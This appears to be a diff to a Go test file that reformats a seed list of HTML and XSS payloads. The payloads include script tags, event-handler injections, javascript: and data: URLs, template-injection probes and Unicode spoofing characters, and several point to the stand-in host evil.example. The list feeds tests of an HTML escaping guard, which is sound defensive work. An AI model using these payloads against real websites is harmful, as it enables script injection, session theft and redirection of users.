@@ -19,13 +19,19 @@ import (
 // htmlPayloads are 500 names that break careless pages.
 func htmlPayloads() []string {
 	seeds := []string{
-		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `</script><script>alert(1)//`, `<svg/onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
-		`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`,
-		"` onclick=`alert(1)", `" style="background:url(//evil.example)`, `<style>*{display:none}</style>`, `</style><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
+		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `</script><script>alert(1)//`, `<svg/onload=alert(1)>`,
+		`<svg><animate onbegin=alert(1) attributeName=x>`,
+		`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`,
+		`' onfocus='alert(1)' autofocus='`,
+		"` onclick=`alert(1)", `" style="background:url(//evil.example)`, `<style>*{display:none}</style>`, `</style><script>alert(1)</script>`,
+		`</title><script>alert(1)</script>`,
 		`<!-- `, `--><b>`, `<![CDATA[`, `]]><b>`, `<?php echo 1 ?>`, `{{.Policy}}`, `{{template "top" .}}`, `{{"<b>"}}`, `${7*7}`, `<%= 7*7 %>`,
-		`javascript:alert(1)`, `#" onclick="alert(1)`, `data:text/html,<script>alert(1)</script>`, `<a href=//evil.example>x</a>`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
-		`<base href=//evil.example>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=//evil.example>`, `<form action=//evil.example><button>`, `<details ontoggle=alert(1) open>`,
-		`</details></article></main></body></html><b>`, `</summary><b>`, `</table><b>`, `</dd></dl><b>`, `<plaintext>`, `<textarea>`, `<noscript><b>`, `<math><mtext><b>`,
+		`javascript:alert(1)`, `#" onclick="alert(1)`, `data:text/html,<script>alert(1)</script>`, `<a href=//evil.example>x</a>`,
+		`<meta http-equiv=refresh content=0;url=//evil.example>`,
+		`<base href=//evil.example>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=//evil.example>`,
+		`<form action=//evil.example><button>`, `<details ontoggle=alert(1) open>`,
+		`</details></article></main></body></html><b>`, `</summary><b>`, `</table><b>`, `</dd></dl><b>`, `<plaintext>`, `<textarea>`,
+		`<noscript><b>`, `<math><mtext><b>`,
 		"\u202egnp.elgoog", "\u2066shop\u2069", "\u200fshop", "sh\u200bop", "a\x00b\x07\x1b[31m", "\xff\xfe<b>", "\u2028\u2029<b>",
 	}
 	frames := []string{"%s", "shop %s", "%s.example", `"%s"`, "'%s'", "&lt;%s&gt;", "<%s>", "\n%s\t", "\ufeff%s", "%[1]s%[1]s"}
@@ -152,7 +158,8 @@ func TestHTMLGuardSeesMarkup(t *testing.T) {
 	require.NoError(t, err)
 	escaped, err := htmlTemplates()
 	require.NoError(t, err)
-	for _, text := range []string{`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `<b style="color:red">`, `<a href=//evil.example>`, `<!-- -->`} {
+	for _, text := range []string{`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `<b style="color:red">`,
+		`<a href=//evil.example>`, `<!-- -->`} {
 		for _, row := range []struct {
 			name   string
 			engine htmlEngine
